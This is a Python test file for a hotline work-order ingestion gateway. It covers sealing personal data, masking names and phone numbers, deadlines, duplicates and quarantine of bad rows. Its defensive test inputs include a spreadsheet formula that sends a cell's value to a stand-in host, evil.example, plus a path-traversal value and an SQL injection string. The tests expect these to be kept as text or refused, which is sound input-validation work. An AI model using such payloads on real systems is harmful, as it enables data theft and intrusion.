"""An order comes in once, sealed, masked and with its first clock; what cannot come in waits in quarantine."""

from datetime import UTC, datetime, timedelta

import pytest

from casework.events import WorkOrderReceived
from ingest.arrival import body_of
from ingest.contracts import read_order
from ingest.gateway import BATCH, Gateway
from ingest.notes import Notes
from ingest.quarantine import held
from ledger.envelope import SealedKey
from ledger.store import Ledger
from ledger.vault import Keyring, Vault
from terms.errors import BadInput
from terms.ids import StreamId
from tests.ingest.conftest import NOW
from tests.ingest.rows import ORDER, row, taken

STREAM = StreamId("order-W-1")


def received(ledger: Ledger, number: str = "W-1") -> WorkOrderReceived:
    """The fact that stands in an order's stream."""
    events = ledger.stream(StreamId(f"order-{number}"))
    return WorkOrderReceived.from_payload(events[0].payload)


@pytest.mark.parametrize(
    ("told", "hidden"),
    [
        ({"是否保密": "是"}, True),
        ({"密": "密"}, True),
        ({"是否匿名": "匿名"}, True),
        ({"是否保密": "否"}, False),
        ({}, False),
    ],
    ids=str,
)
def test_who_asks_to_stay_unnamed_is_marked(
    gateway: Gateway, ledger: Ledger, told: dict[str, str], hidden: bool
) -> None:
    """济南条例 art. 32: citizens may ask to hide their identity (密)."""
    taken(gateway, ORDER | told)
    assert received(ledger).reporter_hidden == hidden


@pytest.mark.parametrize(
    ("limit", "due", "days"),
    [
        ("7个工作日", None, 7),
        ("2024-03-20", datetime(2024, 3, 20, 16, tzinfo=UTC), None),
    ],
)
def test_the_limit_an_order_brings_along_and_its_mark_are_kept(
    gateway: Gateway, ledger: Ledger, limit: str, due: datetime | None, days: int | None
) -> None:
    """domain, section 6: 办理时限, 是否不计考核."""
    taken(gateway, ORDER | {"办理时限": limit, "是否不计考核": "否"})
    order = received(ledger)
    assert (order.handle_due, order.handle_days, order.excluded) == (due, days, False)


@pytest.mark.parametrize("told", [{"办理时限": "2024-03-01"}, {"办理时限": "2044-03-01"}, {"是否不计考核": "也许"}])
def test_a_limit_that_ends_before_it_began_or_a_mark_that_is_no_answer_waits_in_quarantine(
    gateway: Gateway, told: dict[str, str]
) -> None:
    (done,) = taken(gateway, ORDER | told)
    assert done["status"] == "quarantined" and done["problem"]["code"] == "ingest.bad-field"


def test_an_order_from_before_a_field_was_known_is_the_same_body_still(gateway: Gateway) -> None:
    taken(gateway, ORDER)
    assert taken(gateway, ORDER)[0]["status"] == "duplicate"
    assert taken(gateway, ORDER | {"是否保密": "是"})[0]["status"] == "conflict"
    record = read_order(ORDER, at="x")
    assert not any(name in body_of(record) for name in (b"reporter_hidden", b"handle_limit", b"excluded"))


def test_what_officers_type_is_covered_with_the_requesters_own_name_and_number(
    gateway: Gateway, ledger: Ledger, vault: Vault
) -> None:
    """design, Ledger: personal data is sealed from the first event; a note must not bring it back in the clear."""
    taken(gateway, ORDER)
    notes = Notes(ledger, vault)
    said = "已与欧阳测试通话（13900000001），另留 13800002222"
    (covered,) = notes(STREAM, [said])
    assert len(covered) == len(said)
    assert not any(word in covered for word in ("欧阳测试", "13900000001", "13800002222"))
    assert notes(StreamId("case-1"), ["欧阳测试说 13900000001"]) == ["欧阳测试说 ***********"], "no requester of a case"
    assert notes(StreamId("order-none"), ["无此工单"]) == ["无此工单"]


def test_an_order_is_received_with_its_fields_its_boxes_and_its_clock(
    gateway: Gateway, ledger: Ledger, vault: Vault
) -> None:
    assert taken(gateway, ORDER, origin="旧平台") == [{"row": 2, "status": "in", "position": 1, "order_no": "W-1"}]
    fact = received(ledger)
    assert (fact.kind, fact.district, fact.mode, fact.tier, fact.origin) == (
        "投诉",
        "望湖区",
        "live",
        "general",
        "旧平台",
    )
    assert fact.received_at == datetime(2024, 3, 4, 1, 30, tzinfo=UTC)
    assert [clock.clock for clock in fact.deadlines] == ["dispatch"]
    assert fact.deadlines[0].due == fact.received_at + timedelta(hours=2)
    opened = vault.open(STREAM, fact.sealed)
    assert opened == {
        "caller_name": "欧阳测试", "caller_phone": "13900000001", "title": "烧烤摊油烟扰民",
        "text": "小区门口烧烤摊每天油烟到凌晨", "place": "",
    }  # fmt: skip
    assert not {"title", "text", "place"} & set(fact.to_payload())
    assert fact.caller and fact.caller != "13900000001"


def test_who_is_complained_about_is_known_by_name_and_everybody_else_stays_sealed(
    gateway: Gateway, ledger: Ledger, vault: Vault
) -> None:
    """济南条例 art. 32: a complaint about a unit is never routed to that unit."""
    told = ORDER | {"工单类型": "投诉", "被投诉单位": "城管局、某某物业公司"}
    taken(gateway, told)
    fact = received(ledger)
    assert fact.subject_units == ("D1-01",), "the bureau of the order's district"
    assert "某某物业公司" not in str(fact.to_payload())
    opened = vault.open(STREAM, fact.sealed)
    assert opened is not None and opened["subjects"] == ["城管局、某某物业公司"]
    taken(gateway, told | {"工单编号": "W-2", "工单类型": "求助"})
    assert received(ledger, "W-2").subject_units == (), "who is asked for help is not complained about"


def test_the_levels_of_a_category_are_one_whether_they_come_in_one_column_or_three(
    gateway: Gateway, ledger: Ledger
) -> None:
    """domain, section 6: 问题分类 (一级/二级/三级)."""
    levels = {"一级分类": "城乡建设", "二级分类": "市容环卫", "三级分类": "夜间施工"}
    taken(gateway, {name: value for name, value in ORDER.items() if name != "问题分类"} | levels)
    assert received(ledger).category == "城乡建设/市容环卫/夜间施工"


def test_the_same_order_again_is_a_duplicate_and_another_body_a_recorded_conflict(
    gateway: Gateway, ledger: Ledger
) -> None:
    told = taken(gateway, ORDER, ORDER, ORDER | {"主要内容": "另有说法"})
    assert [one["status"] for one in told] == ["in", "duplicate", "conflict"]
    assert told[1]["position"] == told[0]["position"]
    assert taken(gateway, ORDER, ORDER | {"主要内容": "另有说法"})[1]["status"] == "conflict"
    assert ledger.head() == 2


def test_orders_of_one_caller_carry_one_pseudonym(gateway: Gateway, ledger: Ledger) -> None:
    taken(
        gateway,
        ORDER,
        ORDER | {"工单编号": "W-2", "联系方式": "139-0000-0001"},
        ORDER | {"工单编号": "W-3", "联系方式": ""},
    )
    assert received(ledger, "W-1").caller == received(ledger, "W-2").caller
    assert received(ledger, "W-3").caller == ""


def test_an_order_older_than_thirty_days_starts_no_clock(gateway: Gateway, ledger: Ledger) -> None:
    taken(gateway, ORDER | {"受理时间": "2023年7月1日"})
    fact = received(ledger)
    assert (fact.mode, fact.deadlines) == ("history", ())


def test_an_urgent_word_shortens_the_clock(gateway: Gateway, ledger: Ledger) -> None:
    taken(gateway, ORDER | {"主要内容": "楼道里燃气泄漏"})
    assert received(ledger).tier == "life_safety"


def test_rows_without_a_number_are_named_by_file_and_row(gateway: Gateway, ledger: Ledger) -> None:
    nameless = {name: value for name, value in ORDER.items() if name != "工单编号"}
    told = taken(gateway, nameless, nameless, file_digest="f" * 64)
    assert [one["order_no"] for one in told] == ["f" * 16 + "-2", "f" * 16 + "-3"]
    again = taken(gateway, nameless, nameless, file_digest="f" * 64)
    assert [one["status"] for one in again] == ["duplicate", "duplicate"]


def test_a_title_alone_is_the_text_and_a_formula_stays_text(gateway: Gateway, ledger: Ledger, vault: Vault) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    taken(gateway, {"id": "W-1", "标题": formula})
    fact = received(ledger)
    opened = vault.open(STREAM, fact.sealed) or {}
    assert (opened["title"], opened["text"]) == (formula, formula)


def test_fields_named_unit_are_never_read(gateway: Gateway, ledger: Ledger, vault: Vault) -> None:
    taken(gateway, ORDER | {"unit": "云泽市城市管理局", "unit_function": "城市管理"})
    event = ledger.stream(STREAM)[0]
    assert "城市管理" not in str(event.payload)


def test_attachments_come_by_reference_and_a_telling_name_is_covered(
    gateway: Gateway, ledger: Ledger, vault: Vault
) -> None:
    files = ["https://files.example/1.jpg", {"name": "欧阳测试13900000001.jpg", "reference": "s3://b/13900000001.jpg"}]
    taken(gateway, ORDER | {"附件": files})
    first, second = received(ledger).attachments
    assert (first.name, first.reference) == ("https://files.example/1.jpg", "https://files.example/1.jpg")
    assert (second.name, second.reference) == ("*" * 15 + ".jpg", "")
    opened = vault.open(STREAM, received(ledger).sealed) or {}
    assert opened["attachments"][1]["reference"] == "s3://b/13900000001.jpg"


@pytest.mark.parametrize(
    ("change", "field", "reason"),
    [
        ({"主要内容": "", "标题": ""}, "text", "缺少"),
        ({"主要内容": "长" * 20_001}, "text", "超过 20000 字"),
        ({"工单编号": "../../etc/passwd"}, "order_no", "不允许的字符"),
        ({"工单编号": "1; DROP TABLE ledger_events"}, "order_no", "不允许的字符"),
        ({"受理时间": "昨天下午"}, "received_at", "时间无法识别"),
        ({"受理时间": "2024-02-31"}, "received_at", "没有这样的日期"),
        ({"受理时间": 45000}, "received_at", "时间无法识别"),
        ({"主要内容": "有\0空字符"}, "text", "空字符"),
        ({"主要内容": "残\ud800缺"}, "text", "残缺"),
        ({"主要内容": ["不是文字"]}, "text", "应为文字"),
    ],
)
def test_what_a_field_may_not_hold_is_refused_by_name(
    gateway: Gateway, change: dict[str, object], field: str, reason: str
) -> None:
    (told,) = taken(gateway, ORDER | change)
    assert told["status"] == "quarantined"
    assert told["problem"]["at"].endswith(field)
    assert reason in told["problem"]["title"]


@pytest.mark.parametrize("when", ["1899-12-31", "2024-03-06", "9999-12-31", "0001-01-01 00:00:00"])
def test_an_absurd_date_is_refused(gateway: Gateway, when: str) -> None:
    (told,) = taken(gateway, ORDER | {"受理时间": when})
    assert told["problem"]["code"] == "ingest.absurd-date"


def test_a_bad_row_does_not_stop_its_neighbours(gateway: Gateway, ledger: Ledger) -> None:
    told = taken(gateway, ORDER, ORDER | {"工单编号": "W-2", "受理时间": "?"}, ORDER | {"工单编号": "W-3"})
    assert [one["status"] for one in told] == ["in", "quarantined", "in"]
    (one,) = held(ledger)
    assert (one.kind, one.code, one.replayed) == ("work-order", "ingest.bad-field", False)
    assert one.at == "orders.csv 第 3 行 received_at"


def test_an_erased_order_does_not_come_back_nor_do_its_bytes(gateway: Gateway, ledger: Ledger, vault: Vault) -> None:
    taken(gateway, ORDER)
    vault.erase([STREAM], NOW)
    (told,) = taken(gateway, ORDER)
    assert told["problem"]["code"] == "ingest.erased"
    (one,) = held(ledger)
    box = vault.open(one.stream, ledger.stream(one.stream)[0].payload["sealed"])
    assert box == {"number": 2}


def test_batches_are_appended_whole_and_the_summary_grows(gateway: Gateway) -> None:
    rows = [row(ORDER | {"工单编号": f"W-{number}"}, number) for number in range(BATCH + 10)]
    found = [summary.counts()["in"] for summary in gateway.admit(iter(rows), now=NOW)]
    assert found == [BATCH, BATCH + 10]


def test_a_key_made_by_somebody_else_meanwhile_only_costs_another_try(
    gateway: Gateway, ledger: Ledger, vault: Vault, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = Vault.keyring
    raced = iter([True])

    def keyring(self: Vault, subjects: object) -> Keyring:
        found = made(self, list(subjects))  # type: ignore[call-overload]  # an iterable of subjects
        if next(raced, False):
            other = made(self, [STREAM])
            keys: tuple[SealedKey, ...] = other.new_keys()
            ledger.append(keys=keys)
        return found

    monkeypatch.setattr(Vault, "keyring", keyring)
    assert taken(gateway, ORDER)[0]["status"] == "in"
    assert vault.open(STREAM, received(ledger).sealed) is not None


def test_an_unknown_kind_is_refused(gateway: Gateway) -> None:
    with pytest.raises(BadInput):
        taken(gateway, ORDER, kind="rumour")


class TestOnBothDatabases:
    """The same on SQLite and PostgreSQL."""

    @pytest.fixture
    def url(self, database_url: str) -> str:
        """Each database in turn."""
        return database_url

    def test_an_order_goes_in_once(self, gateway: Gateway, ledger: Ledger) -> None:
        told = taken(gateway, ORDER, ORDER, {"标题": "半个\ud800字"})
        assert [one["status"] for one in told] == ["in", "duplicate", "quarantined"]
        ledger.verify()
